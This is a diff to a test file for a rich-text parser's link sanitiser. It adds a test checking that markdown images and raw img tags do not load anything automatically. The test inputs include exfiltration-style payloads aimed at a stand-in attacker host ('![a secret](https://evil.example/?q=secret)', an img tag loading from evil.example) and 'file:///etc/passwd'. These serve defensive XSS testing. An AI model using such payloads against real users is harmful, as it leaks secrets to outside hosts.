@@ -65,9 +65,19 @@ describe("rich text", () => {
     "\\\\evil.example",
     "file:///etc/passwd",
     "https:evil",
-  ])("refuses the address %j", (href) => {
+  ])("XSS-03 refuses the address %j", (href) => {
     expect(safeLink(href)).toBeNull()
     expect(links(parseRichText(`[x](${href})`))).toEqual([])
+  })
+  it("XSS-05 has no node that loads anything by itself: a picture is its words and a link", () => {
+    const nodes = parseRichText(
+      "![a secret](https://evil.example/?q=secret) <img src=//evil.example>",
+    )
+    const kinds = JSON.stringify(nodes).match(/"kind":"\w+"/g) ?? []
+    expect(new Set(kinds)).toEqual(
+      new Set(['"kind":"paragraph"', '"kind":"text"', '"kind":"link"']),
+    )
+    expect(links(nodes)).toEqual(["https://evil.example/?q=secret"])
   })
   it("never throws and only ever links to safe addresses, whatever the text", () => {
     const alphabet = fc.constantFrom(
